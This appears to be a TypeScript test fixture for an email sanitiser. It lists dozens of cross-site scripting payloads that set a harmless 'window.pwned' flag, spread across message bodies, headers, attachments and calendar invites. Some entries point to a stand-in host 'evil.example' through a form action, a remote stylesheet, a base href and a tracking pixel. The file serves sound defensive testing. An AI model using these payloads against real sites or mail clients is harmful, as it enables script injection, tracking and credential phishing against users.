import { html, written, withFiles, type Nasty } from './nasty.ts'

const run = 'window.pwned=1'

/** Everything that ever ran a script in somebody's mail program. None of it may reach a page. */
const bodies: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script in pieces': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'script in svg': `<svg><script>${run}</script></svg>`,
  'svg onload': `<svg onload="${run}">`,
  'svg animate': `<svg><a><animate attributeName=href values="javascript:${run}" /><text x=20 y=20>x</text></a></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run}></svg>#x"></use></svg>`,
  'image onerror': `<img src=x onerror="${run}">`,
  'image onerror without quotes': `<img src=x onerror=${run}//`,
  'image with slashes': `<img/src=x/onerror=${run}>`,
  'image in noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'body onload': `<body onload="${run}">hello`,
  'details ontoggle': `<details open ontoggle="${run}">x</details>`,
  'input autofocus': `<input autofocus onfocus="${run}">`,
  'marquee onstart': `<marquee onstart="${run}">x</marquee>`,
  'video source': `<video><source onerror="${run}"></video>`,
  'link javascript': `<a href="javascript:${run}" autofocus>click</a>`,
  'link with newline': `<a href="java\nscript:${run}">click</a>`,
  'link with tab entity': `<a href="java&Tab;script:${run}">click</a>`,
  'link with entities': `<a href="&#106;&#97;&#118;&#97;script:${run}">click</a>`,
  'link with control in front': `<a href="\u0001javascript:${run}">click</a>`,
  'link vbscript': `<a href="vbscript:${run}">click</a>`,
  'link data': `<a href="data:text/html,<script>${run}</script>">click</a>`,
  'link to another scheme': `<a href="//evil.example/x">click</a><a href="file:///etc/passwd">x</a>`,
  iframe: `<iframe src="javascript:${run}"></iframe>`,
  'iframe srcdoc': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  object: `<object data="javascript:${run}"></object>`,
  embed: `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93LnB3bmVkPTE+">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'meta charset': `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  base: `<base href="http://evil.example/"><a href="x">x</a>`,
  form: `<form action="http://evil.example"><input name=a><button formaction="javascript:${run}">Send</button></form>`,
  'style import': `<style>@import url("http://evil.example/x.css");</style>`,
  'style expression': `<p style="width:expression(${run})">x</p>`,
  'style url': `<p style="background:url(javascript:${run})">x</p>`,
  'style over everything': `<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>`,
  'link stylesheet': `<link rel=stylesheet href="http://evil.example/x.css">`,
  'math and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'svg and style': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'form in form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'title ends': `</title><script>${run}</script>`,
  'textarea ends': `<textarea></textarea><img src=x onerror=${run}></textarea>`,
  xmp: `<xmp><img src=x onerror=${run}></xmp><img src=x onerror=${run}>`,
  plaintext: `<plaintext><img src=x onerror=${run}>`,
  template: `<template><script>${run}</script></template>`,
  'comment never ends': `<!-- <img src=x onerror=${run}>`,
  'comment ends oddly': `<!--><img src=x onerror=${run}>-->`,
  cdata: `<![CDATA[<img src=x onerror=${run}>]]>`,
  'processing instruction': `<?xml-stylesheet href="javascript:${run}"?><x>`,
  'attribute never ends': `<a title="x href="javascript:${run}">x</a><img src="x`,
  'nul in a tag': `<scr\0ipt>${run}</scr\0ipt><img src=x o\0nerror=${run}>`,
  'overlong quotes': `<a href=\`javascript:${run}\`>x</a>`,
  'id that hides ours': `<p id="main-content" name="csrf">x</p><form id=csrf><input name=value></form>`,
  'end of our page': `</main></div></body></html><script>${run}</script>`,
  'remote picture': `<img src="http://evil.example/pixel.gif" srcset="http://evil.example/2x.gif 2x">`,
  'picture of data': `<img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  custom: `<x-foo onclick="${run}" is="os-form">x</x-foo>`,
}

const inOtherPlaces = (): Nasty[] => [
  written('script in the subject', 'hello', [
    'Subject: <script>window.pwned=1</script><img src=x onerror=window.pwned=1>',
  ]),
  written("script in the sender's name", 'hello', [`Reply-To: "<img src=x onerror=${run}>" <a@b.example>`]),
  written('script in plain text', `<script>${run}</script>\r\n<img src=x onerror=${run}>\r\n`),
  withFiles('script in a file name', [{ type: 'text/plain', name: `<img src=x onerror=${run}>.txt`, bytes: 'x' }]),
  withFiles('an svg file', [
    { type: 'image/svg+xml', name: 'logo.svg', bytes: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>` },
  ]),
  withFiles('an html file', [{ type: 'text/html', name: 'letter.html', bytes: `<script>${run}</script>` }]),
  withFiles('html that says it is a picture', [
    { type: 'image/png', name: 'photo.png', bytes: `<script>${run}</script>` },
  ]),
  withFiles('a picture that is html too', [
    { type: 'image/gif', name: 'a.gif', bytes: `GIF89a/*<svg/onload=${run}>*/=1;` },
  ]),
  withFiles('an invitation with script', [
    {
      type: 'text/calendar',
      name: 'i.ics',
      bytes: `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<img src=x onerror=${run}>\r\nDTSTART:20260612T090000Z\r\nEND:VEVENT\r\nEND:VCALENDAR`,
    },
  ]),
]

export const scripts = (): Nasty[] => [
  ...Object.entries(bodies).map(([name, body]) => html(`html: ${name}`, `<p>Dear council</p>${body}<p>Yours</p>`)),
  ...inOtherPlaces(),
]
